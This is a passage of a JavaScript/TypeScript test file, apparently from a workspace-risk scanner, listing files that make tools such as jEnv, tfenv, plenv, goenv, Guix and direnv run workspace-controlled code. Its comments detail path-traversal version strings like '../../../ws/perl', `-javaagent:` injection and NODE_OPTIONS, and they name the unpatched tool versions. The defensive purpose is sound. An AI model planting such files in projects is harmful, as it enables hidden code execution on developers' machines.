// --search-paths`, which loads the Guile of `manifest.scm` or `guix.scm` (guix/scripts/shell.scm:
// auto-detect-manifest, in a directory the user authorized by path, not by content), and with
// `channels.scm` runs `guix time-machine -C channels.scm`, the Guix those channels build; it
// watches all three. jEnv's shims (`java`, and `mvn`, `gradle` with its plugins) and its export
// plugin's prompt hook take the version of the nearest `.java-version` (or `.jenv-version`) up
// from the cwd and run `$JENV_ROOT/versions/<version>/bin/<command>` with no check of the word
// (libexec/jenv-version-name: `../../../../ws/jdk` leads into the workspace; goenv and pyenv
// refuse such a word), and pass the words of the nearest `.java-options` to every java command
// (`-javaagent:` loads code). The projects commit them (`jenv local`, `guix shell
// --export-manifest`): reported. direnv's `use vim` has direnv.vim source `.vimrc.local`
// (its default) when Vim opens a file below the `.envrc`, which allowing the `.envrc` does not
// cover, as `.envrc.local`; nodenv-vars exports `.nodenv-vars`' variables (NODE_OPTIONS) into
// every node command, as rbenv-vars does `.rbenv-vars`'. No command writes them: kept.
const HOST45_KEPT = ['.vimrc.local', '.nodenv-vars']
const HOST45_REPORTED = ['default.nix', 'sub/default.nix', 'guix.scm', 'manifest.scm', 'channels.scm', 'sub/manifest.scm', '.java-version', '.jenv-version', '.java-options', 'sub/.java-version']

describeKeptAndReported("host45: direnv's use nix, use guix and use vim, jEnv's and nodenv-vars' files", HOST45_KEPT, HOST45_REPORTED)

// The same review (host45): tfenv's `terraform` shim (lib/tfenv-exec.sh) runs
// `$TFENV_CONFIG_DIR/versions/<version>/terraform` for the word of the nearest `.terraform-version`
// up from the cwd (lib/tfenv-version-file.sh), unchecked (`../../../ws/tf` leads into the
// workspace; only `latest`, `min-required` and a leading `v` are read otherwise), and tofuenv's
// `tofu` does the same with `.opentofu-version`. terraform-ls runs `terraform` by itself when an
// editor opens the module (host44). Planted with `hostRisks: []`; `tfenv pin` writes it: reported.
describeKeptAndReported("host45: tfenv's .terraform-version and tofuenv's .opentofu-version", [], ['.terraform-version', 'sub/.terraform-version', '.opentofu-version'])

// Found by an attacker's review (host45b): the other *env version managers, rbenv's copies, join
// the first word of the nearest version file up from the cwd to `$ROOT/versions/` and their shims
// run `<that>/bin/<command>` (libexec/*-which) with no check of the word, so `../../../ws/perl`
// runs the workspace's binary: plenv (`.perl-version`, `.plenv-version`), luaenv (`.lua-version`,
// `.luaenv-version`), scalaenv (`.scala-version`), exenv (`.exenv-version`), crenv
// (`.crystal-version`, `.crenv-version`) and swiftenv (`.swift-version`, the whole file, to
// swiftenv-prefix and `<that>/usr/bin/<command>`). phpenv (`.php-version`) refuses `..` and `/`
// only since April 2025 (bd98dbf), in no release (v1.0.0, 2022, takes it unchecked). rbenv (since
// 1.2.0), pyenv (since 2.3.3), goenv (since 2.2.29) and nodenv (`..`, since 1.3.1) refuse such a
// word. goenv took it unchecked before 2.2.29 (August 2025: `goenv exec go` of 2.2.28 ran the
// workspace's `bin/go`), so `.go-version` is one too. Planted with `hostRisks: []`; `plenv local`
// and the like write them: reported.
const HOST45B_REPORTED = ['.go-version', 'sub/.go-version', '.perl-version', 'sub/.perl-version', '.plenv-version', '.php-version', '.lua-version', '.luaenv-version', '.swift-version', '.scala-version', '.exenv-version', '.crystal-version', '.crenv-version']

describeKeptAndReported("host45b: plenv's, phpenv's, luaenv's, swiftenv's, scalaenv's, exenv's and crenv's version files", [], HOST45B_REPORTED)
